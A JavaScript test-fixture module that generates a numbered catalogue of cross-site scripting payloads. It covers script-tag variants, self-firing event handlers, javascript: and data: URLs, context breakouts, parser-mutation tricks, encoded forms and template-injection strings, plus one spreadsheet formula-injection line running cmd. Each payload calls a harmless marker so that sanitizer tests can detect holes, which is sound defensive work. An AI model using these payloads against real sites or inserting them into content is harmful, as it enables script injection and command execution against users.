// Words that would like to be a program: what people and machines have tried to smuggle into pages, built class by class. Each
// calls ran(…) with its number when it runs; a test that sees the call has found a hole.

// payloads gives them all, numbered, each once.
export function payloads() {
  const all = [];
  const add = (f) => all.push(f(`ran(${all.length})`));

  // Script elements, whole, broken, in other cases, with what readers of HTML forgive.
  for (const f of [
    (c) => `<script>${c}</script>`, (c) => `<SCRIPT>${c}</SCRIPT>`, (c) => `<scr<script>ipt>${c}</scr</script>ipt>`, (c) => `<script/x>${c}</script>`,
    (c) => `<script\n>${c}</script\n>`, (c) => `<script>${c}//`, (c) => `<<script>${c}//<</script>`, (c) => `<script type="module">${c}</script>`,
    (c) => `<script src="data:text/javascript,${c}"></script>`, (c) => `<script src=data:,${c}></script>`, (c) => `<svg><script>${c}</script></svg>`,
    (c) => `<svg><script xlink:href="data:,${c}"></script></svg>`, (c) => `<math><script>${c}</script></math>`, (c) => `<script>/*</script><script>*/${c}</script>`,
    (c) => `<script\x00>${c}</script>`, (c) => `<script\x0b>${c}</script>`, (c) => `<!--><script>${c}</script>-->`, (c) => `<!--[if gte IE 4]><script>${c}</script><![endif]-->`,
    (c) => `<script async src="//127.0.0.1:9/x.js" onerror="${c}"></script>`, (c) => `<script>${c}</scrıpt>`,
  ]) add(f);

  // Handlers on elements that raise an event by themselves.
  const raised = {
    onerror: ["img src=x", "image src=x", "video src=x", "audio src=x", "input type=image src=x", "object data=x", "link rel=stylesheet href=x", "track src=x", "embed src=x", "iframe src=http://127.0.0.1:9/"],
    onload: ["svg", "body", "iframe", "iframe srcdoc=x", "img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=", "style", "object data=data:text/html,x"],
    onfocus: ["input autofocus", "select autofocus", "textarea autofocus", "button autofocus", "a href=# autofocus", "div tabindex=0 autofocus contenteditable", "keygen autofocus"],
    onanimationstart: ["p style=animation-name:spin", "xss style=animation:spin .1s"],
    ontoggle: ["details open", "div popover id=p"],
    onstart: ["marquee"], onfinish: ["marquee loop=1"], onscroll: ["body", "div style=overflow:scroll;height:1px"],
    onpageshow: ["body"], onhashchange: ["body"], onresize: ["body"], onmessage: ["body"], onbegin: ["svg><animate attributeName=x dur=1s"],
    onend: ["svg><animate attributeName=x dur=.1s"], onloadstart: ["video src=data:,x", "audio src=data:,x"], onsuspend: ["video src=data:,x"],
    onwheel: ["div"], onpointerover: ["div"], onmouseover: ["p", "b", "td"], onclick: ["p", "a href=#", "button"], oncopy: ["p"], onpaste: ["input"], oninput: ["input"],
  };
  for (const [event, tags] of Object.entries(raised)) for (const tag of tags) add((c) => `<${tag} ${event}=${c}>`);
  for (const gap of ["/", "\t", "\n", "\f", "\r", "/x=/", "\x00 "]) add((c) => `<img src=x${gap}onerror=${c}>`);
  for (const quote of ["\"", "'", "`", ""]) add((c) => `<img src=x OnErRoR=${quote}${c}${quote}>`);

  // Addresses that are programs, in every place an address may stand and in every dress.
  const schemes = [(c) => `javascript:${c}`, (c) => `JaVaScRiPt:${c}`, (c) => `java\tscript:${c}`, (c) => `java\nscript:${c}`, (c) => `\x01javascript:${c}`, (c) => ` javascript:${c}`,
    (c) => `javascript&colon;${c}`, (c) => `&#106;avascript:${c}`, (c) => `&#x6a;avascript:${c}`, (c) => `javascript:%72an(${c.match(/\d+/)})`, (c) => `vbscript:${c}`,
    (c) => `data:text/html,<script>${c}</script>`, (c) => `data:text/html;base64,${Buffer.from(`<script>${c}</script>`).toString("base64")}`, (c) => `data:image/svg+xml,<svg onload="${c}">`];
  for (const scheme of schemes) add((c) => `<a href="${scheme(c)}">点这里</a>`);
  for (const place of [(u) => `<iframe src="${u}">`, (u) => `<form action="${u}"><button>x</button></form>`, (u) => `<button formaction="${u}">x</button>`, (u) => `<object data="${u}">`,
    (u) => `<embed src="${u}">`, (u) => `<base href="${u}//">`, (u) => `<meta http-equiv=refresh content="0;url=${u}">`, (u) => `<svg><a xlink:href="${u}"><text>x</text></a></svg>`,
    (u) => `<math href="${u}">x</math>`, (u) => `<link rel=import href="${u}">`, (u) => `<img src="${u}">`, (u) => `<table background="${u}"><tr><td>x</table>`, (u) => `<video poster="${u}">`,
    (u) => `<area href="${u}">`, (u) => `<q cite="${u}">x</q>`, (u) => `<svg><use href="${u}"/></svg>`, (u) => `<svg><animate attributeName=href values="${u}"/></svg>`,
    (u) => `<svg><set attributeName=onmouseover to="${u}"/></svg>`, (u) => `[点这里](${u})`, (u) => `![图](${u})`, (u) => `<${u}>`]) {
    add((c) => place(`javascript:${c}`));
    add((c) => place(`data:text/html,<script>${c}</script>`));
  }

  // Breaking out of where words stand: attributes, text areas, titles, comments, scripts, styles.
  for (const out of ["\">", "'>", "`>", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>", "</option></select>", "</noscript>", "</template>", "</xmp>", "</iframe>", "</svg>", "</table>"]) {
    add((c) => `${out}<script>${c}</script>`);
    add((c) => `${out}<img src=x onerror=${c}>`);
  }
  for (const quote of ["\"", "'", "&quot;", "&#39;", "\\\"", "\\'"]) add((c) => `${quote} autofocus onfocus=${c} x=${quote}`);
  for (const f of [(c) => `";${c};//`, (c) => `';${c};//`, (c) => `\\";${c};//`, (c) => `\u2028${c}//`, (c) => `</script><svg onload=${c}>`, (c) => `"}};${c};({"a":{"b":"`, (c) => `*/${c}/*`]) add(f);

  // What a reader of HTML turns into something else on its second reading.
  for (const f of [
    (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`, (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${c}></style></mglyph></table></mtext></math>`,
    (c) => `<svg></p><style><a id="</style><img src=x onerror=${c}>">`, (c) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${c}>`,
    (c) => `<table><td><svg><desc><td><img src=x onerror=${c}>`, (c) => `<select><style></select><img src=x onerror=${c}></style>`, (c) => `<template><script>${c}</script></template>`,
    (c) => `<textarea><img title="</textarea><img src=x onerror=${c}>">`, (c) => `<listing>&lt;img src=x onerror=${c}&gt;</listing>`, (c) => `<xmp><img src=x onerror=${c}></xmp>`,
    (c) => `<plaintext><img src=x onerror=${c}>`, (c) => `<title><img src=x onerror=${c}></title>`, (c) => `<style><!--</style><img src=x onerror=${c}>-->`, (c) => `<svg><foreignObject><iframe srcdoc="<script>parent.${c}</script>">`,
    (c) => `<iframe srcdoc="<script>parent.${c}</script>">`, (c) => `<iframe srcdoc="&lt;script&gt;parent.${c}&lt;/script&gt;">`, (c) => `<div style="background:url(javascript:${c})">`, (c) => `<div style="width:expression(${c})">`,
    (c) => `<style>@import "javascript:${c}";</style>`, (c) => `<x-y is="script">${c}</x-y>`, (c) => `<dialog open onclose=${c}><form method=dialog><button autofocus>`, (c) => `&lt;script&gt;${c}&lt;/script&gt;`,
    (c) => `&amp;lt;img src=x onerror=${c}&amp;gt;`, (c) => `%3Cscript%3E${c}%3C/script%3E`, (c) => `+ADw-script+AD4-${c}+ADw-/script+AD4-`, (c) => `＜script＞${c}＜/script＞`, (c) => `\\x3cscript\\x3e${c}\\x3c/script\\x3e`,
    (c) => `\\u003cscript\\u003e${c}\\u003c/script\\u003e`, (c) => `{{constructor.constructor('${c}')()}}`, (c) => `\${${c}}`, (c) => `<%= ${c} %>`, (c) => `#{${c}}`, (c) => `{{"a".sub.call.call({}["x"],"${c}")()}}`, (c) => `=cmd|'/c ${c}'!A1`,
  ]) add(f);
  return all;
}
